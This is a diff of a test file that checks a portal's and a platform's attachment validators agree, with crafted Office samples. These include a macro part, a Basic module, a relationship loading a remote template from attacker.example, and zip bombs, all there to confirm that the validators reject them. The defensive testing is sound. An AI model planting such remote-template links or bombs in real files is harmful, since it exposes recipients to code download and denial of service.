@@ -1,8 +1,19 @@
 import { describe, expect, it } from "vitest";
 import * as portal from "~/lib/attachments";
-import { contentMatchesName as portalContentMatches } from "~/lib/attachment-content.server";
+import { readFileSync } from "node:fs";
+import { contentProblemOf as portalContentProblem } from "~/lib/attachment-content.server";
+import * as portalPackage from "~/lib/office-package.server";
 import * as platform from "../../server/lib/attachments";
-import { SAMPLES, wordDocument, workbook } from "../sample-files";
+import * as platformPackage from "../../server/lib/office-package";
+import {
+  craftedTextDocument,
+  craftedWordDocument,
+  craftedWorkbook,
+  SAMPLES,
+  wordDocument,
+  workbook,
+  zipBomb,
+} from "../sample-files";
 
 // The portal and the platform each keep the attachment rule (docs/decisions/111): the portal to
 // tell the client at once, the platform because it trusts no client. The two copies must agree,
@@ -30,6 +41,24 @@ const NAMES = [
   `${"a".repeat(300)}.docx`,
 ];
 
+/** Every sample: the plain ones, and Office packages ordinary, active, linked outside and a bomb. */
+const samples = () => [
+  ...Object.values(SAMPLES).map((make) => make()),
+  wordDocument(),
+  wordDocument(true),
+  workbook(),
+  craftedWordDocument(),
+  craftedWorkbook(),
+  craftedTextDocument(),
+  craftedWordDocument({ parts: { "word/vbaProject.bin": new Uint8Array(16) } }),
+  craftedTextDocument({ "Basic/Standard/Module1.xml": "<script:module/>" }),
+  craftedWordDocument({
+    relationships: `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>`,
+  }),
+  zipBomb(2048),
+  zipBomb(64, 1024),
+];
+
 describe("the portal's and the platform's attachment rules", () => {
   it("have the same allow-list, each type with the same Content-Type and content", () => {
     expect(portal.ATTACHMENT_TYPES).toEqual(platform.ATTACHMENT_TYPES);
@@ -44,17 +73,25 @@ describe("the portal's and the platform's attachment rules", () => {
 
   it("judge every sample file's content alike under every allowed name", async () => {
     const extensions = Object.keys(portal.ATTACHMENT_TYPES);
-    let allowed = 0;
-    const samples = [...Object.values(SAMPLES).map((make) => make()), wordDocument(), wordDocument(true), workbook()];
-    for (const bytes of samples) {
+    const verdicts = new Set<string | null>();
+    for (const bytes of samples()) {
       for (const ext of extensions) {
         const name = `file.${ext}`;
-        const verdict = await portalContentMatches(name, bytes);
-        expect(await platform.contentMatchesName(name, bytes), `${name}`).toBe(verdict);
-        if (verdict) allowed += 1;
+        const verdict = await portalContentProblem(name, bytes);
+        expect(await platform.contentProblemOf(name, bytes), `${name}`).toBe(verdict);
+        verdicts.add(verdict);
       }
     }
-    // the samples do match some names: the comparison is not between two refusals only
-    expect(allowed).toBeGreaterThan(0);
+    // the samples meet every verdict: the comparison is not between two refusals only
+    expect([...verdicts].sort()).toEqual(["active-content", "external", "mismatch", "unpacked-too-large", null].sort());
+  });
+
+  it("read Office packages with the same limits and the same code (issue 39)", () => {
+    expect(portalPackage.PACKAGE_LIMITS).toEqual(platformPackage.PACKAGE_LIMITS);
+    // the two copies differ in their opening comment only (its lines start the line with '//')
+    const code = (path: string) => readFileSync(new URL(path, import.meta.url), "utf8").replace(/^\/\/.*\n/gm, "");
+    const portalCode = code("../../app/lib/office-package.server.ts");
+    expect(portalCode.length).toBeGreaterThan(1000);
+    expect(code("../../server/lib/office-package.ts")).toBe(portalCode);
   });
 });
